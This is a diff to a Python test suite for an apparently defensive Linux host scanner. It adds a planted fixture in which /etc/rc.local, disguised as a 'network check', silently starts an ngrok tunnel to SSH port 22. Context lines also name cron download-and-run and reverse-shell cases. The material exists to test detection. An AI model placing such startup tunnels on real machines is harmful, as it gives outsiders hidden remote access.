@@ -105,6 +105,18 @@ PLANTED: dict[str, tuple[list[tuple[str, str, int]], str, str]] = {
         "SC-SCRIPT-DOWNLOAD-RUN",
         "/etc/cron.daily/ntp-sync",
     ),
+    "rc-local-quietly-starts-a-tunnel": (
+        [
+            (
+                "/etc/rc.local",
+                "#!/bin/sh -e\n# network check\nnohup /usr/local/bin/ngrok tcp 22 "
+                ">/dev/null 2>&1 &\nexit 0\n",
+                0o755,
+            )
+        ],
+        "SC-SCRIPT-SILENT-TOOL",
+        "/etc/rc.local",
+    ),
     "cron-job-script-runs-a-reverse-shell-script": (
         [
             ("/etc/cron.d/backup", "*/5 * * * * root /usr/local/bin/backup.sh\n", 0o644),
@@ -370,7 +382,7 @@ def test_cli_json_on_a_disk(tmp_path: Path) -> None:
     code, out, _ = run("scan", "--root", str(root), "--format", "json")
     assert code == 0
     data = json.loads(out)
-    assert data["schema_version"] == "1.3"
+    assert data["schema_version"] == "1.4"
     assert data["tool"]["name"] == "safecheck"
     assert data["host"] == {
         "platform": "linux",
@@ -417,7 +429,8 @@ def test_cli_fail_on_and_output(tmp_path: Path) -> None:
     assert code == 1
     assert out == ""
     text = out_file.read_text(encoding="utf-8")
-    assert "Du code est imposé à tous les programmes" in text
+    # the plain sentence leads; the technical title is for advocate mode
+    assert "glisser son propre code dans chaque programme" in " ".join(text.split())
     assert "Relevé à : /etc/ld.so.preload" in text
     assert stat.S_IMODE(out_file.stat().st_mode) == 0o600
     assert all(len(line) <= 80 for line in text.splitlines())
